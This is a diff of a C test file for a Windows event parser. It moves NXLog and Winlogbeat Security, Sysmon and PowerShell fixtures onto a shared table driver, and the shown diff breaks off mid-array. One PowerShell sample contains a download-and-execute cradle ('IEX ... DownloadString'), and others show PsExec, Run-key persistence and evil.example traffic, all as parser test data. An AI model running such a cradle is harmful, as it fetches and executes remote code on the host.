@@ -1,12 +1,9 @@
-#include <check.h>
-#include <stdint.h>
-#include <stdio.h>
-#include <stdlib.h>
-#include <string.h>
-
-#include "event/logevent.h"
-#include "parsers/parser.h"
-#include "parsers/syslog.h"
+/*
+ * Tests of the Windows event parser (src/parsers/winevent.c): Security,
+ * System, Sysmon and PowerShell events as NXLog and Winlogbeat write
+ * them, through the shared table driver (parser_table.h).
+ */
+#include "parser_table.h"
 
 /*
  * Lines in both schemes.  NX() is an NXLog im_msvistalog line with its
@@ -45,19 +42,8 @@
 #define SYSMON	"Microsoft-Windows-Sysmon/Operational"
 #define UTCTIME	"\"UtcTime\":\"2026-03-10 14:02:11.456\""
 
-#define MAXEXP	24
-
-struct wcase {
-	const char	*line;
-	int		 id;
-	int64_t		 time_ms;
-	enum source_kind source;
-	/* "field=value" by the rule language's names; others are unset */
-	const char	*exp[MAXEXP];
-};
-
-#define SEC_DC	"winlog.channel=Security", "host.name=DC01.corp.local"
-#define SYS_WS	"winlog.channel=" SYSMON, "host.name=WS-ALICE.corp.local"
+#define SEC_DC	"winlog.channel=Security|host.name=DC01.corp.local"
+#define SYS_WS	"winlog.channel=" SYSMON "|host.name=WS-ALICE.corp.local"
 
 #define D4624 \
 	"\"SubjectUserSid\":\"S-1-0-0\",\"SubjectUserName\":\"-\"," \
@@ -65,17 +51,17 @@ struct wcase {
 	"\"LogonType\":\"3\",\"AuthenticationPackageName\":\"NTLM\"," \
 	"\"WorkstationName\":\"WS-BOB\",\"ProcessName\":\"-\"," \
 	"\"IpAddress\":\"10.20.1.15\",\"IpPort\":\"50132\""
-#define E4624 SEC_DC, "user.name=alice", \
-	"winlog.event_data.TargetUserName=alice", "winlog.logon.type=3", \
-	"winlog.event_data.AuthenticationPackageName=NTLM", \
-	"source.address=WS-BOB", "source.ip=10.20.1.15", "source.port=50132"
+#define E4624	SEC_DC "|user.name=alice|" \
+	"winlog.event_data.TargetUserName=alice|winlog.logon.type=3|" \
+	"winlog.event_data.AuthenticationPackageName=NTLM|" \
+	"source.address=WS-BOB|source.ip=10.20.1.15|source.port=50132"
 
 #define D4625 \
 	"\"TargetUserName\":\"bob\",\"Status\":\"0xc000006d\"," \
 	"\"SubStatus\":\"0xc000006a\",\"LogonType\":\"3\"," \
 	"\"IpAddress\":\"-\",\"IpPort\":\"0\",\"WorkstationName\":\"WS-BOB\""
-#define E4625 SEC_DC, "user.name=bob", "winlog.event_data.TargetUserName=bob", \
-	"winlog.event_data.Status=0xc000006a", "winlog.logon.type=3", \
+#define E4625	SEC_DC "|user.name=bob|winlog.event_data.TargetUserName=bob|" \
+	"winlog.event_data.Status=0xc000006a|winlog.logon.type=3|" \
 	"source.address=WS-BOB"
 
 #define D4648 \
@@ -83,10 +69,9 @@ struct wcase {
 	"\"TargetUserName\":\"adm-alice\",\"TargetServerName\":\"FS01\"," \
 	"\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
 	"\"IpAddress\":\"10.20.0.20\",\"IpPort\":\"445\""
-#define E4648 SEC_DC, "user.name=bob", "winlog.event_data.SubjectUserName=bob", \
-	"winlog.event_data.TargetUserName=adm-alice", \
-	"destination.domain=FS01", "destination.ip=10.20.0.20", \
-	"destination.port=445", \
+#define E4648	SEC_DC "|user.name=bob|winlog.event_data.SubjectUserName=bob|" \
+	"winlog.event_data.TargetUserName=adm-alice|destination.domain=FS01|" \
+	"destination.ip=10.20.0.20|destination.port=445|" \
 	"process.executable=C:\\Windows\\System32\\cmd.exe"
 
 #define D4662 \
@@ -96,18 +81,18 @@ struct wcase {
 	"ae1511c502c4}\",\"AccessMask\":\"0x100\",\"Properties\":\"%%7688" \
 	"\\r\\n\\t\\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\\r\\n\\t" \
 	"{19195a5b-6da0-11d0-afd3-00c04fd930c9}\\r\\n\""
-#define E4662 SEC_DC, "user.name=pgustavo", \
-	"winlog.event_data.SubjectUserName=pgustavo", "service.name=DS", \
-	"file.name=%{d613d8a5-418b-4b7a-83b8-ae1511c502c4}", \
-	"winlog.event_data.AccessMask=0x100", \
+#define E4662	SEC_DC "|user.name=pgustavo|" \
+	"winlog.event_data.SubjectUserName=pgustavo|service.name=DS|" \
+	"file.name=%{d613d8a5-418b-4b7a-83b8-ae1511c502c4}|" \
+	"winlog.event_data.AccessMask=0x100|" \
 	"winlog.event_data.Properties=%%7688\r\n\t\t{1131f6aa-9c07-11d1-" \
 	"f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n"
 
 #define D4672 \
 	"\"SubjectUserName\":\"adm-alice\",\"PrivilegeList\":" \
 	"\"SeDebugPrivilege\\r\\n\\t\\t\\tSeBackupPrivilege\""
-#define E4672 SEC_DC, "user.name=adm-alice", \
-	"winlog.event_data.SubjectUserName=adm-alice", \
+#define E4672	SEC_DC "|user.name=adm-alice|" \
+	"winlog.event_data.SubjectUserName=adm-alice|" \
 	"winlog.event_data.Properties=SeDebugPrivilege\r\n\t\t\t" \
 	"SeBackupPrivilege"
 
@@ -117,56 +102,55 @@ struct wcase {
 	"\"\\\"C:\\\\windows\\\\system32\\\\whoami.exe\\\" /user\"," \
 	"\"TargetUserName\":\"-\",\"ParentProcessName\":" \
 	"\"C:\\\\Windows\\\\explorer.exe\""
-#define E4688 SEC_DC, "user.name=alice", \
-	"winlog.event_data.SubjectUserName=alice", \
-	"process.executable=C:\\Windows\\System32\\whoami.exe", \
-	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user", \
+#define E4688	SEC_DC "|user.name=alice|" \
+	"winlog.event_data.SubjectUserName=alice|" \
+	"process.executable=C:\\Windows\\System32\\whoami.exe|" \
+	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|" \
 	"process.parent.executable=C:\\Windows\\explorer.exe"
 
 #define D4697 \
 	"\"SubjectUserName\":\"adm-alice\",\"ServiceName\":\"PSEXESVC\"," \
 	"\"ServiceFileName\":\"%SystemRoot%\\\\PSEXESVC.exe\"," \
 	"\"ServiceAccount\":\"LocalSystem\""
-#define E4697 SEC_DC, "user.name=adm-alice", \
-	"winlog.event_data.SubjectUserName=adm-alice", \
-	"service.name=PSEXESVC", "service.image=%SystemRoot%\\PSEXESVC.exe"
+#define E4697	SEC_DC "|user.name=adm-alice|" \
+	"winlog.event_data.SubjectUserName=adm-alice|service.name=PSEXESVC|" \
+	"service.image=%SystemRoot%\\PSEXESVC.exe"
 
 #define D4768 \
 	"\"TargetUserName\":\"alice\",\"TargetDomainName\":\"CORP\"," \
 	"\"ServiceName\":\"krbtgt\",\"Status\":\"0x0\"," \
 	"\"TicketEncryptionType\":\"0x12\",\"IpAddress\":" \
 	"\"::ffff:10.20.1.15\",\"IpPort\":\"50387\""
-#define E4768 SEC_DC, "user.name=alice", \
-	"winlog.event_data.TargetUserName=alice", "service.name=krbtgt", \
-	"winlog.event_data.Status=0x0", \
-	"winlog.event_data.TicketEncryptionType=0x12", \
-	"source.ip=10.20.1.15", "source.port=50387"
+#define E4768	SEC_DC "|user.name=alice|" \
+	"winlog.event_data.TargetUserName=alice|service.name=krbtgt|" \
+	"winlog.event_data.Status=0x0|" \
+	"winlog.event_data.TicketEncryptionType=0x12|source.ip=10.20.1.15|" \
+	"source.port=50387"
 
 #define D4769 \
 	"\"TargetUserName\":\"alice@CORP.LOCAL\",\"ServiceName\":\"svc-sql\"," \
 	"\"TicketEncryptionType\":\"0x17\",\"IpAddress\":\"::ffff:10.20.1.15\"," \
 	"\"Status\":\"0x0\""
-#define E4769 SEC_DC, "user.name=alice", \
-	"winlog.event_data.TargetUserName=alice@CORP.LOCAL", \
-	"service.name=svc-sql", "winlog.event_data.TicketEncryptionType=0x17", \
-	"source.ip=10.20.1.15", "winlog.event_data.Status=0x0"
+#define E4769	SEC_DC "|user.name=alice|" \
+	"winlog.event_data.TargetUserName=alice@CORP.LOCAL|" \
+	"service.name=svc-sql|winlog.event_data.TicketEncryptionType=0x17|" \
+	"source.ip=10.20.1.15|winlog.event_data.Status=0x0"
 
 #define D4771 \
 	"\"TargetUserName\":\"carol\",\"ServiceName\":\"krbtgt/CORP\"," \
 	"\"Status\":\"0x18\",\"PreAuthType\":\"2\",\"IpAddress\":" \
 	"\"::ffff:10.20.1.16\",\"IpPort\":\"61000\""
-#define E4771 SEC_DC, "user.name=carol", \
-	"winlog.event_data.TargetUserName=carol", "service.name=krbtgt/CORP", \
-	"winlog.event_data.Status=0x18", "source.ip=10.20.1.16", \
-	"source.port=61000"
+#define E4771	SEC_DC "|user.name=carol|" \
+	"winlog.event_data.TargetUserName=carol|service.name=krbtgt/CORP|" \
+	"winlog.event_data.Status=0x18|source.ip=10.20.1.16|source.port=61000"
 
 #define D4776 \
 	"\"PackageName\":\"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0\"," \
 	"\"TargetUserName\":\"dave\",\"Workstation\":\"WS-DAVE\"," \
 	"\"Status\":\"0xc000006a\""
-#define E4776 SEC_DC, "user.name=dave", \
-	"winlog.event_data.TargetUserName=dave", "source.address=WS-DAVE", \
-	"winlog.event_data.Status=0xc000006a", \
+#define E4776	SEC_DC "|user.name=dave|" \
+	"winlog.event_data.TargetUserName=dave|source.address=WS-DAVE|" \
+	"winlog.event_data.Status=0xc000006a|" \
 	"winlog.event_data.AuthenticationPackageName=" \
 	"MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"
 
@@ -175,19 +159,18 @@ struct wcase {
 	"\"IpAddress\":\"10.20.1.15\",\"IpPort\":\"50162\",\"ShareName\":" \
 	"\"\\\\\\\\*\\\\ADMIN$\",\"ShareLocalPath\":\"\\\\??\\\\C:\\\\Windows\"," \
 	"\"AccessMask\":\"0x1\""
-#define E5140 SEC_DC, "user.name=adm-alice", \
-	"winlog.event_data.SubjectUserName=adm-alice", \
-	"source.ip=10.20.1.15", "source.port=50162", \
-	"file.share=\\\\*\\ADMIN$", "winlog.event_data.AccessMask=0x1"
+#define E5140	SEC_DC "|user.name=adm-alice|" \
+	"winlog.event_data.SubjectUserName=adm-alice|source.ip=10.20.1.15|" \
+	"source.port=50162|file.share=\\\\*\\ADMIN$|" \
+	"winlog.event_data.AccessMask=0x1"
 
 #define D5145 \
 	"\"SubjectUserName\":\"adm-alice\",\"IpAddress\":\"10.20.1.15\"," \
 	"\"ShareName\":\"\\\\\\\\*\\\\IPC$\",\"RelativeTargetName\":" \
 	"\"PSEXESVC-WS1-1234-stdin\",\"AccessMask\":\"0x12019f\""
-#define E5145 SEC_DC, "user.name=adm-alice", \
-	"winlog.event_data.SubjectUserName=adm-alice", \
-	"source.ip=10.20.1.15", "file.share=\\\\*\\IPC$", \
-	"file.relative_target=PSEXESVC-WS1-1234-stdin", \
+#define E5145	SEC_DC "|user.name=adm-alice|" \
+	"winlog.event_data.SubjectUserName=adm-alice|source.ip=10.20.1.15|" \
+	"file.share=\\\\*\\IPC$|file.relative_target=PSEXESVC-WS1-1234-stdin|" \
 	"winlog.event_data.AccessMask=0x12019f"
 
 #define D7045 \
@@ -195,8 +178,8 @@ struct wcase {
 	"\"%SystemRoot%\\\\PSEXESVC.exe\",\"ServiceType\":" \
 	"\"user mode service\",\"StartType\":\"demand start\"," \
 	"\"AccountName\":\"LocalSystem\""
-#define E7045 "winlog.channel=System", "host.name=WS-BOB.corp.local", \
-	"user.name=LocalSystem", "service.name=PSEXESVC", \
+#define E7045	"winlog.channel=System|host.name=WS-BOB.corp.local|" \
+	"user.name=LocalSystem|service.name=PSEXESVC|" \
 	"service.image=%SystemRoot%\\PSEXESVC.exe"
 
 #define DS1 UTCTIME "," \
@@ -207,12 +190,12 @@ struct wcase {
 	"\"ParentImage\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\"," \
 	"\"ParentCommandLine\":\"cmd.exe /c whoami /user\"," \
 	"\"RuleName\":\"-\""
-#define ES1 SYS_WS, "user.name=alice", \
-	"process.executable=C:\\Windows\\System32\\whoami.exe", \
-	"file.name=whoami.exe", \
-	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user", \
-	"process.hash=SHA1=8F1F,MD5=2EEE", \
-	"process.parent.executable=C:\\Windows\\System32\\cmd.exe", \
+#define ES1	SYS_WS "|user.name=alice|" \
+	"process.executable=C:\\Windows\\System32\\whoami.exe|" \
+	"file.name=whoami.exe|" \
+	"process.command_line=\"C:\\windows\\system32\\whoami.exe\" /user|" \
+	"process.hash=SHA1=8F1F,MD5=2EEE|" \
+	"process.parent.executable=C:\\Windows\\System32\\cmd.exe|" \
 	"process.parent.command_line=cmd.exe /c whoami /user"
 
 #define DS3 UTCTIME "," \
@@ -222,17 +205,18 @@ struct wcase {
 	"\"SourceHostname\":\"WS-ALICE.corp.local\",\"SourcePort\":\"50385\"," \
 	"\"DestinationIp\":\"203.0.113.7\",\"DestinationHostname\":" \
 	"\"evil.example\",\"DestinationPort\":\"443\""
-#define ES3 SYS_WS, "user.name=alice", \
+#define ES3	SYS_WS "|user.name=alice|" \
 	"process.executable=C:\\Program Files\\Google\\Chrome\\Application" \
-	"\\chrome.exe", "network.transport=tcp", "source.ip=10.20.1.15", \
-	"source.address=WS-ALICE.corp.local", "source.port=50385", \
-	"destination.ip=203.0.113.7", "destination.domain=evil.example", \
+	"\\chrome.exe|" \
+	"network.transport=tcp|source.ip=10.20.1.15|" \
+	"source.address=WS-ALICE.corp.local|source.port=50385|" \
+	"destination.ip=203.0.113.7|destination.domain=evil.example|" \
 	"destination.port=443"
 
 #define DS11 UTCTIME "," \
 	"\"Image\":\"C:\\\\Windows\\\\Explorer.EXE\",\"TargetFilename\":" \
 	"\"C:\\\\Users\\\\alice\\\\Downloads\\\\invoice.pdf.exe\""
-#define ES11 SYS_WS, "process.executable=C:\\Windows\\Explorer.EXE", \
+#define ES11	SYS_WS "|process.executable=C:\\Windows\\Explorer.EXE|" \
 	"file.name=C:\\Users\\alice\\Downloads\\invoice.pdf.exe"
 
 #define DS13 UTCTIME "," \
@@ -240,366 +224,282 @@ struct wcase {
 	"a.exe\",\"TargetObject\":\"HKU\\\\S-1-5-21-1\\\\Software\\\\" \
 	"Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\upd\",\"Details\":" \
 	"\"C:\\\\Users\\\\Public\\\\a.exe\""
-#define ES13 SYS_WS, "process.executable=C:\\Users\\Public\\a.exe", \
+#define ES13	SYS_WS "|process.executable=C:\\Users\\Public\\a.exe|" \
 	"registry.path=HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\" \
-	"CurrentVersion\\Run\\upd", \
+	"CurrentVersion\\Run\\upd|" \
 	"registry.data.strings=C:\\Users\\Public\\a.exe"
 
 #define DS17 UTCTIME "," \
 	"\"PipeName\":\"\\\\PSEXESVC-WS1-1234-stdin\",\"Image\":" \
 	"\"C:\\\\Windows\\\\PSEXESVC.exe\""
-#define ES17 SYS_WS, "file.pipe=\\PSEXESVC-WS1-1234-stdin", \
+#define ES17	SYS_WS "|file.pipe=\\PSEXESVC-WS1-1234-stdin|" \
 	"process.executable=C:\\Windows\\PSEXESVC.exe"
 
 #define DS22 UTCTIME "," \
 	"\"QueryName\":\"evil.example\",\"QueryStatus\":\"9003\"," \
 	"\"QueryResults\":\"-\",\"Image\":\"C:\\\\x.exe\"," \
 	"\"User\":\"CORP\\\\alice\""
-#define ES22 SYS_WS, "user.name=alice", "dns.question.name=evil.example", \
-	"dns.response_code=NXDOMAIN", "process.executable=C:\\x.exe"
+#define ES22	SYS_WS "|user.name=alice|dns.question.name=evil.example|" \
+	"dns.response_code=NXDOMAIN|process.executable=C:\\x.exe"
 
-static const struct wcase cases[] = {
+/*
+ * An event: its id, time and source, and its other fields.  The parser
+ * leaves ev->format to the pipeline.
+ */
+#define WIN(l, id, t, src, w) \
+	{ .format = "windows", .line = l, .result = PARSE_OK, .time_ms = t, \
+	  .source = src, .want = "winlog.event_id=" #id "|" w, \
+	  .flags = PT_NOFORMAT }
+#define NO(l, r)	{ .format = "windows", .line = l, .result = r }
+/* Behind a syslog header (NXLog forwarding over syslog). */
+#define SYS(l, id, t, w) \
+	{ .format = "windows", .line = l, .result = PARSE_OK, .time_ms = t, \
+	  .want = "winlog.event_id=" #id "|" w, \
+	  .flags = PT_SYSLOG | PT_NOFORMAT }
+
+static const struct pt_case cases[] = {
 	/* Security, both schemes */
-	{ NX("4624", "Security", "DC01.corp.local", D4624), 4624, T_NX,
-	    SRC_AD, { E4624 } },
-	{ WB("4624", "Security", "DC01.corp.local", D4624), 4624, T_WB,
-	    SRC_AD, { E4624 } },
-	{ NX("4625", "Security", "DC01.corp.local", D4625), 4625, T_NX,
-	    SRC_AD, { E4625 } },
-	{ WB("\"4625\"", "Security", "DC01.corp.local", D4625), 4625, T_WB,
-	    SRC_AD, { E4625 } },
-	{ NX("4648", "Security", "DC01.corp.local", D4648), 4648, T_NX,
-	    SRC_AD, { E4648 } },
-	{ WB("4648", "Security", "DC01.corp.local", D4648), 4648, T_WB,
-	    SRC_AD, { E4648 } },
-	{ NX("4662", "Security", "DC01.corp.local", D4662), 4662, T_NX,
-	    SRC_AD, { E4662 } },
-	{ WB("\"4662\"", "Security", "DC01.corp.local", D4662), 4662, T_WB,
-	    SRC_AD, { E4662 } },
-	{ NX("4672", "Security", "DC01.corp.local", D4672), 4672, T_NX,
-	    SRC_AD, { E4672 } },
-	{ WB("4672", "Security", "DC01.corp.local", D4672), 4672, T_WB,
-	    SRC_AD, { E4672 } },
-	{ NX("4688", "Security", "DC01.corp.local", D4688), 4688, T_NX,
-	    SRC_AD, { E4688 } },
-	{ WB("4688", "Security", "DC01.corp.local", D4688), 4688, T_WB,
-	    SRC_AD, { E4688 } },
-	{ NX("4697", "Security", "DC01.corp.local", D4697), 4697, T_NX,
-	    SRC_AD, { E4697 } },
-	{ WB("4697", "Security", "DC01.corp.local", D4697), 4697, T_WB,
-	    SRC_AD, { E4697 } },
-	{ NX("4768", "Security", "DC01.corp.local", D4768), 4768, T_NX,
-	    SRC_AD, { E4768 } },
-	{ WB("4768", "Security", "DC01.corp.local", D4768), 4768, T_WB,
-	    SRC_AD, { E4768 } },
-	{ NX("4769", "Security", "DC01.corp.local", D4769), 4769, T_NX,
-	    SRC_AD, { E4769 } },
-	{ WB("4769", "Security", "DC01.corp.local", D4769), 4769, T_WB,
-	    SRC_AD, { E4769 } },
-	{ NX("4771", "Security", "DC01.corp.local", D4771), 4771, T_NX,
-	    SRC_AD, { E4771 } },
-	{ WB("4771", "Security", "DC01.corp.local", D4771), 4771, T_WB,
-	    SRC_AD, { E4771 } },
-	{ NX("4776", "Security", "DC01.corp.local", D4776), 4776, T_NX,
-	    SRC_AD, { E4776 } },
-	{ WB("4776", "Security", "DC01.corp.local", D4776), 4776, T_WB,
-	    SRC_AD, { E4776 } },
-	{ NX("5140", "Security", "DC01.corp.local", D5140), 5140, T_NX,
-	    SRC_AD, { E5140 } },
-	{ WB("5140", "Security", "DC01.corp.local", D5140), 5140, T_WB,
-	    SRC_AD, { E5140 } },
-	{ NX("5145", "Security", "DC01.corp.local", D5145), 5145, T_NX,
-	    SRC_AD, { E5145 } },
-	{ WB("5145", "Security", "DC01.corp.local", D5145), 5145, T_WB,
-	    SRC_AD, { E5145 } },
+	WIN(NX("4624", "Security", "DC01.corp.local", D4624),
+	    4624, T_NX, SRC_AD, E4624),
+	WIN(WB("4624", "Security", "DC01.corp.local", D4624),
+	    4624, T_WB, SRC_AD, E4624),
+	WIN(NX("4625", "Security", "DC01.corp.local", D4625),
+	    4625, T_NX, SRC_AD, E4625),
+	WIN(WB("\"4625\"", "Security", "DC01.corp.local", D4625),
+	    4625, T_WB, SRC_AD, E4625),
+	WIN(NX("4648", "Security", "DC01.corp.local", D4648),
+	    4648, T_NX, SRC_AD, E4648),
+	WIN(WB("4648", "Security", "DC01.corp.local", D4648),
+	    4648, T_WB, SRC_AD, E4648),
+	WIN(NX("4662", "Security", "DC01.corp.local", D4662),
+	    4662, T_NX, SRC_AD, E4662),
+	WIN(WB("\"4662\"", "Security", "DC01.corp.local", D4662),
+	    4662, T_WB, SRC_AD, E4662),
+	WIN(NX("4672", "Security", "DC01.corp.local", D4672),
+	    4672, T_NX, SRC_AD, E4672),
+	WIN(WB("4672", "Security", "DC01.corp.local", D4672),
+	    4672, T_WB, SRC_AD, E4672),
+	WIN(NX("4688", "Security", "DC01.corp.local", D4688),
+	    4688, T_NX, SRC_AD, E4688),
+	WIN(WB("4688", "Security", "DC01.corp.local", D4688),
+	    4688, T_WB, SRC_AD, E4688),
+	WIN(NX("4697", "Security", "DC01.corp.local", D4697),
+	    4697, T_NX, SRC_AD, E4697),
+	WIN(WB("4697", "Security", "DC01.corp.local", D4697),
+	    4697, T_WB, SRC_AD, E4697),
+	WIN(NX("4768", "Security", "DC01.corp.local", D4768),
+	    4768, T_NX, SRC_AD, E4768),
+	WIN(WB("4768", "Security", "DC01.corp.local", D4768),
+	    4768, T_WB, SRC_AD, E4768),
+	WIN(NX("4769", "Security", "DC01.corp.local", D4769),
+	    4769, T_NX, SRC_AD, E4769),
+	WIN(WB("4769", "Security", "DC01.corp.local", D4769),
+	    4769, T_WB, SRC_AD, E4769),
+	WIN(NX("4771", "Security", "DC01.corp.local", D4771),
+	    4771, T_NX, SRC_AD, E4771),
+	WIN(WB("4771", "Security", "DC01.corp.local", D4771),
+	    4771, T_WB, SRC_AD, E4771),
+	WIN(NX("4776", "Security", "DC01.corp.local", D4776),
+	    4776, T_NX, SRC_AD, E4776),
+	WIN(WB("4776", "Security", "DC01.corp.local", D4776),
+	    4776, T_WB, SRC_AD, E4776),
+	WIN(NX("5140", "Security", "DC01.corp.local", D5140),
+	    5140, T_NX, SRC_AD, E5140),
+	WIN(WB("5140", "Security", "DC01.corp.local", D5140),
+	    5140, T_WB, SRC_AD, E5140),
+	WIN(NX("5145", "Security", "DC01.corp.local", D5145),
+	    5145, T_NX, SRC_AD, E5145),
+	WIN(WB("5145", "Security", "DC01.corp.local", D5145),
+	    5145, T_WB, SRC_AD, E5145),
 	/* System */
-	{ NX("7045", "System", "WS-BOB.corp.local", D7045), 7045, T_NX,
-	    SRC_AD, { E7045 } },
-	{ WB("7045", "System", "WS-BOB.corp.local", D7045), 7045, T_WB,
-	    SRC_AD, { E7045 } },
+	WIN(NX("7045", "System", "WS-BOB.corp.local", D7045),
+	    7045, T_NX, SRC_AD, E7045),
+	WIN(WB("7045", "System", "WS-BOB.corp.local", D7045),
+	    7045, T_WB, SRC_AD, E7045),
 	/* Sysmon: the time is UtcTime's */
-	{ NX("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC,
-	    SRC_ENDPOINT, { ES1 } },
-	{ WB("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC,
-	    SRC_ENDPOINT, { ES1 } },
-	{ NX("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC,
-	    SRC_ENDPOINT, { ES3 } },
-	{ WB("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC,
-	    SRC_ENDPOINT, { ES3 } },
-	{ NX("11", SYSMON, "WS-ALICE.corp.local", DS11), 11, T_UTC,
-	    SRC_ENDPOINT, { ES11 } },
-	{ WB("11", SYSMON, "WS-ALICE.corp.local", DS11), 11, T_UTC,
-	    SRC_ENDPOINT, { ES11 } },
-	{ NX("13", SYSMON, "WS-ALICE.corp.local", DS13), 13, T_UTC,
-	    SRC_ENDPOINT, { ES13 } },
-	{ WB("13", SYSMON, "WS-ALICE.corp.local", DS13), 13, T_UTC,
-	    SRC_ENDPOINT, { ES13 } },
-	{ NX("17", SYSMON, "WS-ALICE.corp.local", DS17), 17, T_UTC,
-	    SRC_ENDPOINT, { ES17 } },
-	{ WB("18", SYSMON, "WS-ALICE.corp.local", DS17), 18, T_UTC,
-	    SRC_ENDPOINT, { ES17 } },
-	{ NX("22", SYSMON, "WS-ALICE.corp.local", DS22), 22, T_UTC,
-	    SRC_ENDPOINT, { ES22 } },
-	{ WB("22", SYSMON, "WS-ALICE.corp.local", DS22), 22, T_UTC,
-	    SRC_ENDPOINT, { ES22 } },
+	WIN(NX("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC, SRC_ENDPOINT,
+	    ES1),
+	WIN(WB("1", SYSMON, "WS-ALICE.corp.local", DS1), 1, T_UTC, SRC_ENDPOINT,
+	    ES1),
+	WIN(NX("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC, SRC_ENDPOINT,
+	    ES3),
+	WIN(WB("3", SYSMON, "WS-ALICE.corp.local", DS3), 3, T_UTC, SRC_ENDPOINT,
+	    ES3),
+	WIN(NX("11", SYSMON, "WS-ALICE.corp.local", DS11),
+	    11, T_UTC, SRC_ENDPOINT, ES11),
+	WIN(WB("11", SYSMON, "WS-ALICE.corp.local", DS11),
+	    11, T_UTC, SRC_ENDPOINT, ES11),
+	WIN(NX("13", SYSMON, "WS-ALICE.corp.local", DS13),
+	    13, T_UTC, SRC_ENDPOINT, ES13),
+	WIN(WB("13", SYSMON, "WS-ALICE.corp.local", DS13),
+	    13, T_UTC, SRC_ENDPOINT, ES13),
+	WIN(NX("17", SYSMON, "WS-ALICE.corp.local", DS17),
+	    17, T_UTC, SRC_ENDPOINT, ES17),
+	WIN(WB("18", SYSMON, "WS-ALICE.corp.local", DS17),
+	    18, T_UTC, SRC_ENDPOINT, ES17),
+	WIN(NX("22", SYSMON, "WS-ALICE.corp.local", DS22),
+	    22, T_UTC, SRC_ENDPOINT, ES22),
+	WIN(WB("22", SYSMON, "WS-ALICE.corp.local", DS22),
+	    22, T_UTC, SRC_ENDPOINT, ES22),
 	/* PowerShell script block; the account from NXLog's AccountName */
-	{ NX("4104", "Microsoft-Windows-PowerShell/Operational",
+	WIN(NX("4104", "Microsoft-Windows-PowerShell/Operational",
 	    "WS-ALICE.corp.local", "\"AccountName\":\"alice\",\"Domain\":"
 	    "\"CORP\",\"ScriptBlockText\":\"IEX (New-Object Net.WebClient)."
-	    "DownloadString('http://x/a')\",\"Path\":\"\""), 4104, T_NX,
-	    SRC_ENDPOINT, { "winlog.channel=Microsoft-Windows-PowerShell/"
-	    "Operational", "host.name=WS-ALICE.corp.local", "user.name=alice",
+	    "DownloadString('http://x/a')\",\"Path\":\"\""),
+	    4104, T_NX, SRC_ENDPOINT,
+	    "winlog.channel=Microsoft-Windows-PowerShell/Operational|"
+	    "host.name=WS-ALICE.corp.local|user.name=alice|"
 	    "process.command_line=IEX (New-Object Net.WebClient)."
-	    "DownloadString('http://x/a')" } },
+	    "DownloadString('http://x/a')"),
 	/* ... and from Winlogbeat's winlog.user */
-	{ "{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"winlog\":{\"channel\":"
-	    "\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":4103,"
+	WIN("{\"@timestamp\":\"2026-03-10T14:02:11.123Z\",\"winlog\":{"
+	    "\"channel\":\"Microsoft-Windows-PowerShell/Operational\","
+	    "\"event_id\":4103,"
 	    "\"user\":{\"identifier\":\"S-1-5-21-1\",\"name\":\"bob\","
 	    "\"domain\":\"CORP\"},\"event_data\":{\"Payload\":\"x\"}}}",
-	    4103, T_WB, SRC_ENDPOINT, { "winlog.channel=Microsoft-Windows-"
-	    "PowerShell/Operational", "user.name=bob",
-	    "process.command_line=x" } },
+	    4103, T_WB, SRC_ENDPOINT,
+	    "winlog.channel=Microsoft-Windows-PowerShell/Operational|"
+	    "user.name=bob|process.command_line=x"),
 	/* filtering platform: numeric protocol */
-	{ NX("5156", "Security", "DC01.corp.local", "\"Application\":"
+	WIN(NX("5156", "Security", "DC01.corp.local", "\"Application\":"
 	    "\"\\\\device\\\\harddiskvolume2\\\\x.exe\",\"SourceAddress\":"
 	    "\"10.20.0.10\",\"SourcePort\":\"50130\",\"DestAddress\":"
-	    "\"168.63.129.16\",\"DestPort\":\"80\",\"Protocol\":\"6\""), 5156,
-	    T_NX, SRC_AD, { SEC_DC,
-	    "process.executable=\\device\\harddiskvolume2\\x.exe",
-	    "source.ip=10.20.0.10", "source.port=50130",
-	    "destination.ip=168.63.129.16", "destination.port=80",
-	    "network.transport=tcp" } },
+	    "\"168.63.129.16\",\"DestPort\":\"80\",\"Protocol\":\"6\""),
+	    5156, T_NX, SRC_AD,
+	    SEC_DC "|process.executable=\\device\\harddiskvolume2\\x.exe|"
+	    "source.ip=10.20.0.10|source.port=50130|"
+	    "destination.ip=168.63.129.16|destination.port=80|"
+	    "network.transport=tcp"),
 	/* any other event: the common fields */
-	{ NX("4634", "Security", "DC01.corp.local", "\"TargetUserName\":"
-	    "\"alice\",\"LogonType\":\"3\""), 4634, T_NX, SRC_AD, { SEC_DC,
-	    "user.name=alice", "winlog.event_data.TargetUserName=alice",
-	    "winlog.logon.type=3" } },
-	{ NX("9999", "Application", "APP1", "\"Data\":\"x\""), 9999, T_NX,
-	    SRC_AD, { "winlog.channel=Application", "host.name=APP1" } },
-	{ WB("5857", "Microsoft-Windows-WMI-Activity/Operational", "WS1",
+	WIN(NX("4634", "Security", "DC01.corp.local", "\"TargetUserName\":"
+	    "\"alice\",\"LogonType\":\"3\""), 4634, T_NX, SRC_AD,
+	    SEC_DC "|user.name=alice|winlog.event_data.TargetUserName=alice|"
+	    "winlog.logon.type=3"),
+	WIN(NX("9999", "Application", "APP1", "\"Data\":\"x\""),
+	    9999, T_NX, SRC_AD, "winlog.channel=Application|host.name=APP1"),
+	WIN(WB("5857", "Microsoft-Windows-WMI-Activity/Operational", "WS1",
 	    "\"Data\":\"x\""), 5857, T_WB, SRC_ENDPOINT,
-	    { "winlog.channel=Microsoft-Windows-WMI-Activity/Operational",
-	    "host.name=WS1" } },
